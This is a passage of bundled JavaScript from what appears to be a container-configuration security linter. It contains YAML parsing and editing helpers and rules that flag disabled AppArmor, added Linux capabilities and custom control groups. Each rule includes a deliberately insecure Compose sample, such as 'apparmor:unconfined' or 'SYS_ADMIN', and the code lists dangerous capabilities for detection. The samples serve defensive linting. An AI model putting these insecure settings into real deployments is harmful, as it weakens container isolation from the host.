        const locate = (at) => (run ? (0,_scalar_offsets_js__WEBPACK_IMPORTED_MODULE_1__/* .spanWithin */ .Y)(run, document.text, { start: at, end: at }).start : 0);
        commands = run && shellLanguage(step) === 'posix' ? (0,_shell_js__WEBPACK_IMPORTED_MODULE_2__/* .parseShell */ .a)(maskExpressions(run.string), locate) : [];
        parsed.set(step, commands);
    }
    return commands;
}
/** All commands of a step's script, those of substitutions and inner scripts too. */
const stepInvocations = (step) => [...(0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_3__/* .everyCommand */ .n3)(stepCommands(step))];
/** Each `${{ … }}` as a variable of the same length, so that its quotes and braces do not count. */
function maskExpressions(script) {
    let masked = '';
    for (const { span } of (0,_expression_find_js__WEBPACK_IMPORTED_MODULE_0__/* .findExpressions */ .zV)(script))
        masked += `${script.slice(masked.length, span.start)}\${${'_'.repeat(span.end - span.start - 3)}}`;
    return masked + script.slice(masked.length);
}


/***/ }),

/***/ 8583:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Kz: () => (/* binding */ templateMark),
/* harmony export */   X5: () => (/* binding */ Scalar),
/* harmony export */   X9: () => (/* binding */ Mapping),
/* harmony export */   YV: () => (/* binding */ PlacedScalar),
/* harmony export */   gd: () => (/* binding */ Sequence),
/* harmony export */   ol: () => (/* binding */ scalarOf)
/* harmony export */ });
/* harmony import */ var js_yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3243);

/** Stands for each character of a template action in the text that is parsed. A private-use character: printable for YAML, and in no real file by chance. */
const templateMark = '\uE000';
/** In short and in full; whatever the quotes, a parser of Go takes the value for what its tag says. */
const coreTag = /^(?:!!|!<tag:yaml\.org,2002:)(\w+)>?$/;
const resolved = new Set(['bool', 'int', 'float', 'null']);
const styles = ['plain', 'plain', 'single', 'double', 'literal', 'folded'];
const yamlTrue = new Set(['y', 'Y', 'yes', 'Yes', 'YES', 'true', 'True', 'TRUE', 'on', 'On', 'ON']);
const yamlFalse = new Set(['n', 'N', 'no', 'No', 'NO', 'false', 'False', 'FALSE', 'off', 'Off', 'OFF']);
class Scalar {
    kind = 'scalar';
    span;
    tag;
    style;
    #source;
    #event;
    #string;
    constructor(source, event, span, tag) {
        this.#source = source;
        this.#event = event;
        this.span = span;
        this.tag = tag;
        this.style = styles[event?.style ?? 1] ?? 'plain';
    }
    get templated() {
        return this.#source.parsed !== this.#source.original && this.#source.parsed.slice(this.span.start, this.span.end).includes(templateMark);
    }
    get string() {
        this.#string ??= this.#read();
        return this.#string;
    }
    #read() {
        const written = this.#decoded();
        return this.#type === 'binary' ? Buffer.from(written, 'base64').toString('utf8') : written;
    }
    /** What a tag of YAML's own says that the value is. */
    get #type() {
        return this.tag === null ? undefined : coreTag.exec(this.tag)?.[1];
    }
    #decoded() {
        if (this.#event === null)
            return this.#source.parsed.slice(this.span.start, this.span.end);
        if (this.templated && this.style === 'plain')
            return this.#source.original.slice(this.span.start, this.span.end);
        // Decoding the original text keeps the template's words; an action with a quote or backslash in it could end it early, which only changes what is shown.
        return (0,js_yaml__WEBPACK_IMPORTED_MODULE_0__/* .getScalarValue */ .KE)(this.templated ? this.#source.original : this.#source.parsed, this.#event);
    }
    get value() {
        const type = this.#type;
        if (type === 'bool' && this.boolean !== undefined)
            return this.boolean;
        return type === undefined ? this.#untagged : resolved.has(type) ? coreValue(this.string) : this.string;
    }
    get #untagged() {
        return this.style !== 'plain' || this.tag !== null ? this.string : coreValue(this.string);
    }
    get boolean() {
        if (this.tag === null ? this.style !== 'plain' : this.#type !== 'bool')
            return undefined;
        return yamlTrue.has(this.string) ? true : yamlFalse.has(this.string) ? false : undefined;
    }
    at(...path) {
        return path.length === 0 ? this : undefined;
    }
}
const numberForm = /^(?:[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?|0o[0-7]+|0x[\da-fA-F]+)$/;
/** YAML 1.2 core schema, section 10.3.2. */
function coreValue(text) {
    if (text === '' || text === '~' || text === 'null' || text === 'Null' || text === 'NULL')
        return null;
    if (text === 'true' || text === 'True' || text === 'TRUE')
        return true;
    if (text === 'false' || text === 'False' || text === 'FALSE')
        return false;
    const number = Number(text);
    return !Number.isNaN(number) && numberForm.test(text) ? number : text;
}
/** A scalar that stands elsewhere than where it was parsed, or that nothing was parsed for. */
class PlacedScalar {
    kind = 'scalar';
    span;
    tag;
    style;
    templated;
    string;
    value;
    boolean;
    constructor(content, span) {
        this.span = span;
        this.tag = content.tag;
        this.style = content.style;
        this.templated = content.templated;
        this.string = content.string;
        this.value = content.value;
        this.boolean = content.boolean;
    }
    at(...path) {
        return path.length === 0 ? this : undefined;
    }
}
/** A scalar that nothing was parsed for. */
const scalarOf = (span, string, value = string) => new PlacedScalar({ tag: null, style: 'plain', templated: false, string, value, boolean: undefined }, span);
class Collection {
    tag;
    style;
    span;
    value = undefined;
    boolean = undefined;
    string = undefined;
    constructor(style, start, tag) {
        this.style = style;
        this.span = { start, end: start };
        this.tag = tag;
    }
    at(...path) {
        let node = this;
        // By index, as every rule comes here: an iterator gives an object for each step.
        for (let at = 0; at < path.length; at++) {
            if (!(node instanceof Collection))
                return undefined;
            node = node.child(path[at]);
        }
        return node;
    }
}
class Mapping extends Collection {
    kind = 'map';
    entries = [];
    merged = [];
    #index;
    entry(key) {
        this.#index ??= indexOf(this.entries);
        const own = this.#index.get(key);
        if (own !== undefined || this.merged.length === 0)
            return own;
        for (const map of this.merged) {
            const found = map.entry(key);
            if (found !== undefined)
                return found;
        }
        return undefined;
    }
    child(step) {
        return this.entry(String(step))?.value;
    }
}
function indexOf(entries) {
    const index = new Map();
    entries.forEach((entry) => {
        index.set(entry.key.string, entry);
    });
    return index;
}
class Sequence extends Collection {
    kind = 'sequence';
    items = [];
    child(step) {
        return typeof step === 'number' ? this.items[step]?.value : undefined;
    }
}


/***/ }),

/***/ 5682:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   K$: () => (/* binding */ isUnset),
/* harmony export */   Mc: () => (/* binding */ entriesOf),
/* harmony export */   PX: () => (/* binding */ scalarsIn),
/* harmony export */   S3: () => (/* binding */ itemsOf),
/* harmony export */   b2: () => (/* binding */ isMissing),
/* harmony export */   nf: () => (/* binding */ mapsIn)
/* harmony export */ });
/** The values of a sequence; nothing for anything else. */
const itemsOf = (node) => node?.kind === 'sequence' ? node.items.map((item) => item.value) : [];
const mapsIn = (node) => itemsOf(node).filter((item) => item.kind === 'map');
/** The scalars of a sequence. */
const scalarsIn = (node) => itemsOf(node).filter((item) => item.kind === 'scalar');
/** The entries of a map, merged ones behind its own; nothing for anything else. */
function* entriesOf(node) {
    if (node?.kind !== 'map')
        return;
    yield* node.entries;
    const own = new Set(node.entries.map((entry) => entry.key.string));
    for (const map of node.merged)
        for (const entry of entriesOf(map))
            if (!own.has(entry.key.string))
                yield entry;
}
/** Nothing is written, or null. */
const isUnset = (node) => node === undefined || node.value === null;
/**
 * Nothing is written at `path` below a node, and nothing that is written there could bring it: a templated value on the way may hold anything.
 */
function isMissing(from, ...path) {
    let node = from;
    for (const step of path) {
        if (node === undefined || (node.kind === 'scalar' && node.templated))
            break;
        node = node.at(step);
    }
    return isUnset(node);
}


/***/ }),

/***/ 2588:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ey: () => (/* binding */ effectiveEntries),
/* harmony export */   R: () => (/* binding */ hidden),
/* harmony export */   XA: () => (/* binding */ mergeList),
/* harmony export */   c3: () => (/* binding */ listOf),
/* harmony export */   fN: () => (/* binding */ renamed),
/* harmony export */   ke: () => (/* binding */ seenAs),
/* harmony export */   yB: () => (/* binding */ held)
/* harmony export */ });
/* harmony import */ var _yaml_nodes_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(8583);
/* harmony import */ var _yaml_values_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(5682);


/** An entry that nothing asks for, but that keeps its place among the others, so that edits are made as in the map itself. */
const hidden = (entry) => renamed(entry, '');
const renamed = (entry, name) => ({ ...entry, key: (0,_yaml_nodes_js__WEBPACK_IMPORTED_MODULE_0__/* .scalarOf */ .ol)(entry.key.span, name) });
/** A map with other entries in the places of its own; what is merged into it cannot be edited through it. */
function seenAs(map, change) {
    const seen = mappingAt(map);
    for (const entry of map.entries)
        seen.entries.push(change(entry));
    if (map.merged.length === 0)
        return seen;
    const own = new Set(map.entries);
    const merged = mappingAt(map);
    for (const entry of effectiveEntries(map))
        if (!own.has(entry))
            merged.entries.push(change(entry));
    seen.merged.push(merged);
    return seen;
}
/** Those that count: of duplicate keys the last one, of merged ones the first. */
const effectiveEntries = (map) => [...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_1__/* .entriesOf */ .Mc)(map)].filter((entry) => map.entry(entry.key.string) === entry);
/**
 * A map that is not written. All is in a merged map, as edits leave that alone.
 * @param below maps that have the rest, in order of precedence
 */
function held(place, nodes, ...below) {
    const [map, merged] = [mappingAt(place), mappingAt(place)];
    for (const [name, value] of Object.entries(nodes))
        merged.entries.push({ key: (0,_yaml_nodes_js__WEBPACK_IMPORTED_MODULE_0__/* .scalarOf */ .ol)(value.span, name), value, span: value.span, alias: value.span });
    map.merged.push(merged, ...below);
    return map;
}
/** A list that is not written. */
function listOf(span, items) {
    const list = new _yaml_nodes_js__WEBPACK_IMPORTED_MODULE_0__/* .Sequence */ .gd('block', span.start, null);
    list.span = span;
    for (const value of items)
        list.items.push({ value, span: value.span, alias: value.span });
    return list;
}
/** Merges a list that is not written into a map. */
function mergeList(map, name, items) {
    if (items.length > 0)
        map.merged.push(held(map, { [name]: listOf(map.span, items) }));
}
function mappingAt(place) {
    const map = new _yaml_nodes_js__WEBPACK_IMPORTED_MODULE_0__/* .Mapping */ .X9(place.kind === 'map' ? place.style : 'block', place.span.start, null);
    map.span = place.span;
    return map;
}


/***/ }),

/***/ 4853:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  a: () => (/* binding */ rules)
});

;// CONCATENATED MODULE: ./lib/core/references.js
/** Where a rule's claim can be read: each builder gives one reference. */
const podSecurityStandards = 'https://kubernetes.io/docs/concepts/security/pod-security-standards/';
/** A control of the Pod Security Standards, by its name there. */
const pss = {
    baseline: (control) => ({
        title: `Pod Security Standards, baseline: ${control}`,
        url: `${podSecurityStandards}#baseline`,
    }),
    restricted: (control) => ({
        title: `Pod Security Standards, restricted: ${control}`,
        url: `${podSecurityStandards}#restricted`,
    }),
};
/** A page of the Kubernetes documentation, by its path below `/docs/`. */
const kubernetes = (path, title) => ({
    title: `Kubernetes: ${title}`,
    url: `https://kubernetes.io/docs/${path}`,
});
const cwe = (id) => ({ title: `CWE-${id}`, url: `https://cwe.mitre.org/data/definitions/${id}.html` });
/** A technique or sub-technique of MITRE ATT&CK: `T1611`, `T1552.001`. */
const attack = (id) => ({
    title: `MITRE ATT&CK ${id}`,
    url: `https://attack.mitre.org/techniques/${id.replace('.', '/')}/`,
});
const cve = (id) => ({ title: id, url: `https://nvd.nist.gov/vuln/detail/${id}` });
/** Kubernetes Hardening Guidance, version 1.2, August 2022, by the heading of the section. */
const nsa = (section) => ({
    title: `NSA and CISA Kubernetes Hardening Guidance: ${section}`,
    url: 'https://media.defense.gov/2022/Aug/29/2003066362/-1/-1/0/CTR_KUBERNETES_HARDENING_GUIDANCE_1.2_20220829.PDF',
});
/** A page of GitHub's documentation of Actions, by its path below `/actions/`. */
const actions = (path, title) => ({
    title: `GitHub Actions: ${title}`,
    url: `https://docs.github.com/en/actions/${path}`,
});
/** A page of Docker's manuals, by its path below `docs.docker.com/`. */
const docker = (path, title) => ({ title: `Docker: ${title}`, url: `https://docs.docker.com/${path}` });
/** A section of the Dockerfile reference, by its anchor. */
const dockerfile = (anchor, title) => docker(`reference/dockerfile/#${anchor}`, `Dockerfile reference, ${title}`);
/** An attribute of a service in the Compose file reference. */
const composeService = (attribute) => docker(`reference/compose-file/services/#${attribute}`, `Compose file reference, ${attribute}`);

// EXTERNAL MODULE: ./lib/core/rule.js
var rule = __webpack_require__(7849);
// EXTERNAL MODULE: ./lib/documents/compose-interpolate.js
var compose_interpolate = __webpack_require__(2652);
;// CONCATENATED MODULE: ./lib/documents/yaml-write.js
const styles = new WeakMap();
function styleOf(text) {
    const style = styles.get(text) ?? readStyle(text);
    styles.set(text, style);
    return style;
}
function readStyle(text) {
    const indent = /:[ \t]*\r?\n( +)[^\s#-]/.exec(text.value)?.[1]?.length ?? 2;
    const list = /^( *(?:- )?)[^\s#-][^\n]*:[ \t]*\r?\n( *)- /m.exec(text.value);
    const dashIndent = (list?.[2]?.length ?? indent) - (list?.[1]?.length ?? 0);
    return {
        lineBreak: /\r?\n/.exec(text.value)?.[0] ?? '\n',
        indent: Math.min(indent, 8),
        dashIndent: Math.max(0, Math.min(dashIndent, 8)),
        flowIndent: flowIndentOf(text.value),
        json: /^\s*[{[]\s*"/.test(text.value),
    };
}
function flowIndentOf(value) {
    const [, outer = '', inner = ''] = /^([ \t]*)(?:\S[^\n]*)?[{[][ \t]*\r?\n([ \t]+)\S/m.exec(value) ?? [];
    const indent = inner.slice(outer.length);
    return inner.startsWith(outer) && indent.length <= 8 && indent !== '' ? indent : '  ';
}
/** A dot before digits would make a number of it. */
const plain = /^(?:[A-Za-z_/]|\.(?=[A-Za-z./]))[\w./@-]*$/;
/** Words that some YAML reader takes for no string. */
const word = /^(?:y|n|yes|no|on|off|true|false|null|\.nan|[-+]?\.inf)$/i;
function writeScalar(value, style = 'plain') {
    if (typeof value !== 'string')
        return String(value);
    if (style === 'single' && !/[\r\n]/.test(value))
        return `'${value.replaceAll("'", "''")}'`;
    if (style === 'json' || style === 'double')
        return JSON.stringify(value);
    return plain.test(value) && !word.test(value) ? value : JSON.stringify(value);
}
const isList = (value) => Array.isArray(value);
function writeFlow(value, json) {
    if (isList(value))
        return `[${value.map((item) => writeFlow(item, json)).join(', ')}]`;
    if (typeof value !== 'object')
        return writeScalar(value, json ? 'json' : 'plain');
    const entries = Object.entries(value).map(([key, item]) => `${writeScalar(key, json ? 'json' : 'plain')}: ${writeFlow(item, json)}`);
    return json && entries.length > 0 ? `{ ${entries.join(', ')} }` : `{${entries.join(', ')}}`;
}
/** As `writeFlow`, with each entry on a line of its own; `lead` is the indentation of the line that it begins on. */
function writeFlowLines(value, json, lead, style) {
    if (typeof value !== 'object')
        return writeFlow(value, json);
    const inner = lead + style.flowIndent;
    const entries = isList(value)
        ? value.map((item) => writeFlowLines(item, json, inner, style))
        : Object.entries(value).map(([key, item]) => `${writeScalar(key, json ? 'json' : 'plain')}: ${writeFlowLines(item, json, inner, style)}`);
    if (entries.length === 0)
        return writeFlow(value, json);
    const lines = entries.map((entry) => style.lineBreak + inner + entry).join(',') + style.lineBreak + lead;
    return isList(value) ? `[${lines}]` : `{${lines}}`;
}
/** `key: value` as lines of a block map whose keys stand at `column`; the first line is not indented. */
function writeEntry(key, value, column, style) {
    return `${writeScalar(key)}:${writeBelow(value, column, style)}`;
}
/** What follows a key's colon. */
function writeBelow(value, column, style) {
    if (isList(value)) {
        if (value.length === 0 || value.some((item) => typeof item === 'object'))
            return ` ${writeFlow(value, false)}`;
        const lineStart = style.lineBreak + ' '.repeat(column + style.dashIndent);
        return value.map((item) => `${lineStart}- ${writeFlow(item, false)}`).join('');
    }
    if (typeof value !== 'object')
        return ` ${writeScalar(value)}`;
    const entries = Object.entries(value);
    if (entries.length === 0)
        return ' {}';
    const below = column + style.indent;
    return entries.map(([key, item]) => style.lineBreak + ' '.repeat(below) + writeEntry(key, item, below, style)).join('');
}

;// CONCATENATED MODULE: ./lib/documents/yaml-edit.js

/** Writes another value in the quotes that the old one has. */
function replaceScalar(scalar, value) {
    return { span: scalar.span, text: writeScalar(value, scalar.style) };
}
/**
 * Sets the value at `path` below `from`, adding the maps that are not there yet. An added entry stands behind the one that `after` names where
 * it is added to `from`, else behind the last one. Undefined where an alias, a merge key or a value of another kind is in the way.
 */
function setAt(text, from, path, value, after) {
    const [key, ...rest] = path;
    if (key === undefined)
        return undefined;
    const own = ownEntry(from, key);
    if (own === undefined)
        return from.at(key) === undefined ? insertEntry(text, from, key, nested(rest, value), after) : undefined;
    if (own.alias !== null)
        return undefined;
    if (own.value.kind === 'map')
        return rest.length === 0 ? undefined : setAt(text, own.value, rest, value);
    if (own.value.kind === 'sequence')
        return undefined;
    if (own.value.value === null)
        return fillEntry(text, from, own, nested(rest, value));
    return rest.length === 0 && typeof value !== 'object' ? replaceScalar(own.value, value) : undefined;
}
const nested = (path, value) => path.reduceRight((inner, key) => ({ [key]: inner }), value);
/** Adds an item at the end of a sequence that is no alias. */
function appendItem(text, sequence, value) {
    const last = sequence.items.at(-1);
    const { json, lineBreak } = styleOf(text);
    const written = writeFlow(value, json);
    if (last === undefined)
        return { span: sequence.span, text: `[${written}]` };
    if (sequence.style === 'flow')
        return insertion(last.span.end, `, ${written}`);
    const column = columnOf(text, last.span.start);
    return atLineEnd(text, last.span.end, `${lineBreak}${' '.repeat(column)}- ${written}`);
}
const insertion = (at, text) => ({ span: { start: at, end: at }, text });
function insertEntry(text, map, key, value, after) {
    const style = styleOf(text);
    const last = (after === undefined ? undefined : ownEntry(map, after)) ?? map.entries.at(-1);
    if (map.style === 'flow') {
        if (last === undefined && map.merged.length > 0)
            return undefined;
        const json = map.entries[0]?.key.style === 'double' || (last === undefined && style.json);
        const name = writeScalar(key, json ? 'json' : 'plain');
        const entry = `${name}: ${writeFlow(value, json)}`;
        if (last === undefined)
            return { span: map.span, text: `{${entry}}` };
        const lead = text.value.slice(text.line(text.position(last.span.start).line).start, last.span.start);
        if (lead.trim() !== '')
            return insertion(last.span.end, `, ${entry}`);
        return insertion(last.span.end, `,${style.lineBreak}${lead}${name}: ${writeFlowLines(value, json, lead, style)}`);
    }
    if (last === undefined)
        return undefined;
    const column = columnOf(text, last.key.span.start);
    const lead = text.value.slice(last.key.span.start - column, last.key.span.start);
    // Indentation that is no blank is a dash of the item that holds the map, or something that this does not know.
    if (!/^[ -]*$/.test(lead))
        return undefined;
    return atLineEnd(text, last.span.end, style.lineBreak + ' '.repeat(column) + writeEntry(key, value, column, style));
}
/** Gives a value to a key that has none. */
function fillEntry(text, map, { key, value }, filling) {
    const between = text.value.slice(key.span.end, value.span.start);
    if (!/^[ \t]*:[ \t]*$/.test(between))
        return undefined;
    const style = styleOf(text);
    const span = { start: key.span.end + between.indexOf(':') + 1, end: value.span.end };
    const json = key.style === 'double';
    return { span, text: map.style === 'flow' ? ` ${writeFlow(filling, json)}` : writeBelow(filling, columnOf(text, key.span.start), style) };
}
/** Inserts behind the line's comment; undefined where something else follows on the line. */
function atLineEnd(text, offset, inserted) {
    const { end } = text.line(text.position(offset).line);
    if (!/^[ \t]*(?:[ \t]#.*)?$/.test(text.value.slice(offset, end)))
        return undefined;
    // The blank lines behind a scalar that keeps them (`|+`) belong to it.
    const blank = keepsBlankLines(text, offset) ? (/^(?:\r?\n[ \t]*(?=\r?\n))+/.exec(text.value.slice(end))?.[0].length ?? 0) : 0;
    return insertion(end + blank, inserted);
}
const keepsBlankLines = (text, offset) => /^[ \t]*\r?\n[ \t]*\r?\n/.test(text.value.slice(offset)) && /[|>]\d?\+/.test(text.value);
const columnOf = (text, offset) => text.position(offset).column - 1;
/** The only entry of its own that a map has under a key: with two of them, an edit of one would bring out the other. */
function ownEntry(map, key) {
    const found = map.entries.filter((entry) => entry.key.string === key);
    return found.length === 1 ? found[0] : undefined;
}

;// CONCATENATED MODULE: ./lib/documents/yaml-remove.js

/**
 * Removes the entry or item at `path` below `from` with its lines, and each parent that would be left empty, but never `from` itself.
 * Undefined where that cannot be done without touching something else: the value comes from an alias or a merge key, or an alias needs it.
 */
function removeAt(text, from, path) {
    const chain = chainOf(from, path);
    if (chain === undefined)
        return undefined;
    let index = chain.length - 1;
    while (index > 0 && isLastChild(chain[index]))
        index--;
    const link = chain[index];
    if (link === undefined)
        return undefined;
    const { parent, child } = link;
    const edit = isLastChild(link) ? emptied(parent) : parent.style === 'flow' ? fromFlow(text, link) : fromBlock(text, child);
    return edit !== undefined && holdsNeededAnchor(text, edit.span) ? undefined : edit;
}
function chainOf(from, path) {
    const chain = [];
    let node = from;
    for (const step of path) {
        if (node.kind === 'scalar' || chain.at(-1)?.child.alias)
            return undefined;
        const child = node.kind === 'map' ? ownEntry(node, String(step)) : typeof step === 'number' ? node.items[step] : undefined;
        if (child === undefined)
            return undefined;
        const index = node.kind === 'map' ? node.entries.indexOf(child) : Number(step);
        chain.push({ parent: node, child, index });
        node = child.value;
    }
    return chain;
}
const childrenOf = (parent) => (parent.kind === 'map' ? parent.entries : parent.items);
const isLastChild = (link) => link !== undefined && childrenOf(link.parent).length === 1 && (link.parent.kind === 'sequence' || link.parent.merged.length === 0);
const emptied = (parent) => ({ span: parent.span, text: parent.kind === 'map' ? '{}' : '[]' });
function fromFlow(text, { parent, child, index }) {
    const children = childrenOf(parent);
    const previous = children[index - 1];
    const next = children[index + 1];
    const span = next ? { start: child.span.start, end: next.span.start } : previous && { start: previous.span.end, end: child.span.end };
    const gap = next ? text.value.slice(child.span.end, next.span.start) : text.value.slice(previous?.span.end, child.span.start);
    return span !== undefined && /^\s*,\s*$/.test(gap) ? { span, text: '' } : undefined;
}
function fromBlock(text, { span }) {
    const first = text.line(text.position(span.start).line);
    const last = text.position(span.end).line;
    if (!/^[ \t]*(?:[ \t]#.*)?$/.test(text.value.slice(span.end, text.line(last).end)))
        return undefined;
    const lead = text.value.slice(first.start, span.start);
    const { end } = text.lineWithBreak(last);
    if (lead.trim() === '')
        return { span: { start: first.start, end }, text: '' };
    // The first key of an item: what follows moves up behind the dash, in the same column.
    if (!/^[ -]*- +$/.test(lead))
        return undefined;
    const gap = /^\s*/.exec(text.value.slice(end))?.[0].length ?? 0;
    return { span: { start: span.start, end: end + gap }, text: '' };
}
/** An anchor that is defined inside the span, while an alias outside refers to it. */
function holdsNeededAnchor(text, span) {
    const removed = text.slice(span);
    const anchors = [...removed.matchAll(/(?<=[\s,[{])&([^\s,[\]{}]+)/g)];
    if (anchors.length === 0)
        return false;
    const all = aliasesByText.get(text) ?? countAliases(text.value);
    aliasesByText.set(text, all);
    const inside = countAliases(removed);
    return anchors.some(([, name = '']) => (all.get(name) ?? 0) > (inside.get(name) ?? 0));
}
const aliasesByText = new WeakMap();
function countAliases(value) {
    const counts = new Map();
    for (const [, name = ''] of value.matchAll(/\*([^\s,[\]{}]+)/g))
        counts.set(name, (counts.get(name) ?? 0) + 1);
    return counts;
}

;// CONCATENATED MODULE: ./lib/documents/compose-security.js


/** Those of a service's `security_opt` that are of this form, with their variables read. */
function* securityOptions(service, form) {
    for (const [index, option] of service.items('security_opt').entries()) {
        const text = (0,compose_interpolate/* readText */.yR)(option, service.document) ?? '';
        if (!form.test(text))
            continue;
        const own = service.own('security_opt', index) === option;
        yield {
            option,
            identity: text.replace(/\s*[:=]\s*/, ':').toLowerCase(),
            removal: own ? removeAt(service.document.text, service.node, ['security_opt', index]) : undefined,
        };
    }
}

;// CONCATENATED MODULE: ./lib/rules/compose/apparmor-disabled.js



/* harmony default export */ const apparmor_disabled = ((0,rule/* defineRule */.Km)({
    id: 'compose/apparmor-disabled',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service runs without an AppArmor profile',
    why: 'The profile keeps the container from mounting file systems and from writing to kernel settings.',
    instead: 'Remove the option, or name a profile of your own.',
    references: [composeService('security_opt'), docker('engine/security/apparmor/', 'AppArmor profiles'), cwe(693)],
    peers: ['kics:security_opt_not_set'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - apparmor:unconfined\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - no-new-privileges:true\n',
    on: 'composeService',
    *check(service) {
        for (const { option, identity, removal } of securityOptions(service, /^apparmor\s*[:=]\s*unconfined$/i))
            yield {
                at: option,
                identity,
                message: `service "${service.name}" has "${option.string}"`,
                fix: (0,rule/* unsafeFix */.ed)('Remove the option', removal),
            };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/capabilities-added.js




/** What Docker gives without being asked (docs.docker.com/engine/security/#linux-kernel-capabilities). */
const given = new Set('AUDIT_WRITE CHOWN DAC_OVERRIDE FOWNER FSETID KILL MKNOD NET_BIND_SERVICE NET_RAW SETFCAP SETGID SETPCAP SETUID SYS_CHROOT'.split(' '));
/** Each of them is a known way to the host or to the traffic of others. */
const dangerous = new Set('ALL BPF DAC_READ_SEARCH MAC_ADMIN MAC_OVERRIDE NET_ADMIN PERFMON SYS_ADMIN SYS_BOOT SYS_MODULE SYS_PTRACE SYS_RAWIO SYSLOG'.split(' '));
/* harmony default export */ const capabilities_added = ((0,rule/* defineRule */.Km)({
    id: 'compose/capabilities-added',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service is given more capabilities than the default',
    why: 'A capability is a part of the power of root over the host, not over the container.',
    instead: 'Drop all capabilities and add only those of the default set that the service needs.',
    references: [composeService('cap_add'), cwe(250), attack('T1611')],
    peers: ['kics:container_capabilities_unrestricted'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    cap_add:\n      - SYS_ADMIN\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    cap_drop: [ALL]\n    cap_add: [NET_BIND_SERVICE]\n',
    on: 'composeService',
    *check(service) {
        for (const [index, item] of service.items('cap_add').entries()) {
            const name = (0,compose_interpolate/* readText */.yR)(item, service.document)?.toUpperCase().replace(/^CAP_/, '') ?? '';
            if (name === '' || given.has(name) || !/^[A-Z_]+$/.test(name))
                continue;
            const own = service.own('cap_add', index) === item;
            yield {
                at: item,
                severity: dangerous.has(name) ? 'high' : 'medium',
                message: `service "${service.name}" is given the capability ${name}`,
                fix: own ? (0,rule/* unsafeFix */.ed)(`Remove ${name}`, removeAt(service.document.text, service.node, ['cap_add', index])) : undefined,
            };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/capabilities-not-dropped.js



/* harmony default export */ const capabilities_not_dropped = ((0,rule/* defineRule */.Km)({
    id: 'compose/capabilities-not-dropped',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A service keeps the default capabilities',
    why: 'Docker gives fourteen capabilities to every container, and hardly any program needs them.',
    instead: 'Drop `ALL`, and add those that are needed.',
    references: [composeService('cap_drop'), cwe(250)],
    peers: ['kics:container_capabilities_unrestricted'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    cap_drop:\n      - ALL\n',
    on: 'composeService',
    guard: (service) => service.allItems('cap_drop').find((item) => item.string?.toUpperCase() === 'ALL'),
    *check(service) {
        const dropped = service.allItems('cap_drop').map((item) => item.string?.toUpperCase() ?? '');
        if (service.partial || dropped.some((name) => name === 'ALL' || name.includes('$')))
            return;
        const { text } = service.document;
        const own = service.node.at('cap_drop');
        const edit = own?.kind === 'sequence' ? appendItem(text, own, 'ALL') : setAt(text, service.node, ['cap_drop'], ['ALL']);
        const message = `service "${service.name}" does not drop its capabilities`;
        yield { at: service.anchor, field: 'cap_drop', message, fix: (0,rule/* unsafeFix */.ed)('Drop all capabilities', edit) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/cgroup-parent.js



/* harmony default export */ const cgroup_parent = ((0,rule/* defineRule */.Km)({
    id: 'compose/cgroup-parent',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A service chooses its own control group',
    why: 'In another control group the limits that the host sets for containers do not hold, and it shares the resources of what runs there.',
    instead: 'Remove `cgroup_parent`, and set limits on the service.',
    references: [composeService('cgroup_parent'), cwe(400)],
    peers: ['kics:cgroup_not_default'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    cgroup_parent: m-executor-abcd\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    mem_limit: 256m\n',
    on: 'composeService',
    *check(service) {
        const parent = service.text('cgroup_parent');
        if (!parent || parent.value === '')
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `cgroup_parent`', removeAt(service.document.text, service.node, ['cgroup_parent']));
        yield { at: parent, message: `service "${service.name}" runs in the control group "${parent.value}"`, fix };
    },
}));

// EXTERNAL MODULE: ./lib/documents/kubernetes-pipelines.js
var kubernetes_pipelines = __webpack_require__(1834);
// EXTERNAL MODULE: ./lib/documents/kubernetes-pod.js
var kubernetes_pod = __webpack_require__(2906);
;// CONCATENATED MODULE: ./lib/documents/template-default.js
/** No default that a person writes is longer. */
const longest = 400;
const piped = /^\{\{-?\s{0,9}[$.][\w.$]{0,200}\s{0,9}\|\s{0,9}default\s{1,9}["`]([^"`]{1,200})["`]\s{0,9}(?:\|\s{0,9}s?quote\s{0,9})?-?\}\}$/;
const called = /^\{\{-?\s{0,9}default\s{1,9}["`]([^"`]{1,200})["`]\s{1,9}[$.][\w.$]{0,200}\s{0,9}(?:\|\s{0,9}s?quote\s{0,9})?-?\}\}$/;
/**
 * What a text is that is one action of Go's templates with a literal for a value that is not given: `{{ .Values.path | default "/run" }}` (Sprig, "Default
 * Functions"). Null for any other.
 */
function templateDefault(text) {
    if (text.length > longest || !text.includes('default'))
        return null;
    return (piped.exec(text) ?? called.exec(text))?.[1] ?? null;
}

// EXTERNAL MODULE: ./lib/documents/yaml-values.js
var yaml_values = __webpack_require__(5682);
